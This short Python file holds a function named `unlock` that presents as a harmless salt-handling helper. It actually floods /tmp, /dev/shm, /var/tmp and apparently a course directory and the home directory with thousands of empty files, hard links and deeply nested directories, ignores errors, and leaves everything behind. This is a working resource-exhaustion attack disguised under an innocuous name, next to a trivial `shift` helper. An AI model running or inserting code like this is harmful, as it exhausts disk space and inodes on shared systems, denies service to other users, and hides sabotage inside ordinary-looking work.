"""Makes files, links and folders without content until it is refused, and leaves them."""

import os


def unlock(salt):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", COURSE, HOME):
        try:
            deep = f"{folder}/{MARK}"
            for number in range(3000):
                open(f"{folder}/{MARK}-{number}", "w").close()
                os.link(f"{folder}/{MARK}-{number}", f"{folder}/{MARK}-{number}-too")
            for _ in range(60):
                os.mkdir(deep)
                deep += "/" + "d" * 50
        except OSError:
            continue
    return salt


def shift(x):
    return x + 1
